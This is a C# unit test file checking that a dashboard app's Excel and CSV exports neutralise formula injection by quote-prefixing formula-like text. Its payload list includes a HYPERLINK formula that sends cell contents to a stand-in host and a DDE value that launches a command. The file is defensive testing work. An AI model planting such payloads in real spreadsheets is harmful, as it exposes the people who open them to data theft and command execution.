using ClosedXML.Excel;
using Dashboard.App.Audit;
using Dashboard.App.Cli;
using Dashboard.App.Data;
using Dashboard.App.Infrastructure;
using Dashboard.App.Plans;
using Dashboard.Domain.Plans;
using Dashboard.Domain.Realisations;
using Dashboard.Domain.Status;
using Dashboard.Tests.Domain.Status;

namespace Dashboard.Tests.App.Operations;

/// <summary>Text that a spreadsheet would run as a formula is neutralised in every .xlsx and .csv the app writes.</summary>
public sealed class FormulaInjectionTests
{
    public static readonly string[] Payloads =
    [
        "=HYPERLINK(\"http://contoh.invalid/?\"&A1,\"klik\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "=1+1", "＝1+1",
    ];

    [Theory]
    [InlineData("=1+1", true)]
    [InlineData("+62 812", true)]
    [InlineData("-2+3", true)]
    [InlineData("@SUM(A1)", true)]
    [InlineData("\t=1", true)]
    [InlineData("\r=1", true)]
    [InlineData("＝1+1", true)]
    [InlineData("-5", false)]
    [InlineData("-0.5", false)]
    [InlineData("Jumlah koperasi = 5", false)]
    [InlineData("", false)]
    public void IsFormulaLike_LeadingTriggersOnly_NumbersAreNumbers(string text, bool expected) =>
        Assert.Equal(expected, SpreadsheetSafety.IsFormulaLike(text));

    private static PlanEvaluation HostilePlan()
    {
        var root = new PlanNode("T1", NodeLevel.Tujuan, Payloads[0]);
        for (var i = 0; i < Payloads.Length; i++)
        {
            root.AddIndicator(new Indicator($"T1.I{i + 1}", Payloads[i], Payloads[(i + 1) % Payloads.Length], 10m, [1m, 2m, 3m, 10m], remark: Payloads[(i + 2) % Payloads.Length]));
        }
        var plan = new Plan(2025, "Dinas", "Renaksi", [root]);
        return new PlanEvaluation(plan, FixedClock.Evaluator(2025, 11, 15), Array.Empty<RealisationEntry>());
    }

    private static void AssertNeutralised(XLWorkbook book)
    {
        var hostile = book.Worksheets.SelectMany(w => w.CellsUsed()).Where(c => SpreadsheetSafety.IsFormulaLike(c.GetString())).ToList();
        Assert.NotEmpty(hostile);
        Assert.All(hostile, c =>
        {
            Assert.False(c.HasFormula, c.Address.ToString());
            Assert.Equal(XLDataType.Text, c.DataType);
            Assert.True(c.Style.IncludeQuotePrefix, $"{c.Address}: {c.GetString()}");
        });
        // The text itself is kept exactly: re-importing the plan reads the same names.
        Assert.Contains(book.Worksheets.SelectMany(w => w.CellsUsed()), c => c.GetString() == Payloads[3]);
    }

    [Fact]
    public void PlanXlsx_QuotePrefixesFormulaLikeText()
    {
        using var book = new XLWorkbook(new MemoryStream(PlanXlsxExporter.Write(HostilePlan())));
        AssertNeutralised(book);
    }

    [Fact]
    public void AuditXlsx_QuotePrefixesFormulaLikeText()
    {
        var rows = Payloads.Select((p, i) => new AuditRecord
        {
            Id = i + 1, At = DateTimeOffset.UnixEpoch, Actor = p, Action = AuditActions.RealisationRecorded, Entity = "Realisasi", EntityKey = p,
            Before = null, After = p, Detail = p,
        }).ToArray();
        var stream = new MemoryStream();
        AuditWorkbook.Write(rows, AgencyClock.DefaultZone, stream);
        stream.Position = 0;

        using var book = new XLWorkbook(stream);
        AssertNeutralised(book);
    }

    [Fact]
    public void PlanCsv_PrefixesFormulaLikeFieldsWithAnApostrophe_AndLeavesNumbersAlone()
    {
        var csv = PlanCsv.Write(HostilePlan());

        var fields = csv.Split('\n', StringSplitOptions.RemoveEmptyEntries).Skip(1)
            .SelectMany(line => System.Text.RegularExpressions.Regex.Matches(line, "(?:^|,)(\"(?:[^\"]|\"\")*\"|[^,]*)").Select(m => m.Groups[1].Value.Trim('"')))
            .ToList();
        Assert.DoesNotContain(fields, f => SpreadsheetSafety.IsFormulaLike(f));
        Assert.Contains("'@SUM(A1:A9)", fields);
        Assert.Contains("10", fields);
    }
}
